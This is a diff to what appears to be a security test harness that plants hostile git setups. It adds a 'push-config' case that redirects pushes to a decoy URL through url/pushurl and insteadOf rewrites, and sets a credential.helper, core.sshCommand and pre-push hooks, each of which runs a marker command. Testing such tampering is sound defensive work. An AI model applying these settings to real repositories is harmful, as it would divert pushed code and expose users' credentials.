@@ -17,6 +17,10 @@ Cases:
   a textconv and a pager: each the mark command;
 - `main-gitdir`: `.git` repointed at the project's main git dir;
 - `no-dotgit`: `.git` deleted, so a git that looked would find the repository above;
+- `push-config` (issue 40): the project's config made to hijack a push: `remote.origin.url`
+  and `pushurl` set to `$HOSTILE_DECOY_URL`, a `url.<decoy>.insteadOf` of the real origin,
+  a `credential.helper`, `core.sshCommand` and a `pre-push` hook (in `core.hooksPath` and
+  in the repository's own hooks dir), each the mark command;
 - `setsid`: a daemon (double fork, `setsid`) left running, its pid appended to
   `$HOSTILE_DIR/pids`.
 
@@ -94,6 +98,31 @@ def _shared_config(mark: str) -> None:
     Path(".gitattributes").write_text("* filter=evil diff=evil\n")
 
 
+def _push_config(mark: str) -> None:
+    decoy = os.environ["HOSTILE_DECOY_URL"]
+    origin = subprocess.run(
+        ["git", "config", "--get", "remote.origin.url"], capture_output=True, text=True
+    ).stdout.strip()
+    hooks = Path(mark).parent / "hooks"
+    hooks.mkdir(exist_ok=True)
+    own_hooks = _main_git_dir() / "hooks"
+    for where in (hooks, own_hooks):
+        where.mkdir(parents=True, exist_ok=True)
+        (where / "pre-push").write_text(f"#!/bin/sh\nexec {mark} hook-pre-push\n")
+        (where / "pre-push").chmod(0o755)
+    for key, value in (
+        ("remote.origin.url", decoy),
+        ("remote.origin.pushurl", decoy),
+        ("credential.helper", f"!{mark} credential"),
+        ("core.sshCommand", mark),
+        ("core.hooksPath", str(hooks)),
+    ):
+        _git("config", key, value)
+    if origin:
+        _git("config", f"url.{decoy}.insteadOf", origin)
+        _git("config", f"url.{decoy}.pushInsteadOf", origin)
+
+
 def _setsid(hostile: Path) -> None:
     if os.fork() == 0:
         os.setsid()
@@ -126,6 +155,8 @@ def main(argv: list[str]) -> int:
         _setsid(hostile)
     if "shared-config" in cases:
         _shared_config(mark)
+    if "push-config" in cases:
+        _push_config(mark)
     if "main-gitdir" in cases:
         Path(".git").write_text(f"gitdir: {_main_git_dir()}\n")
     if "no-dotgit" in cases:
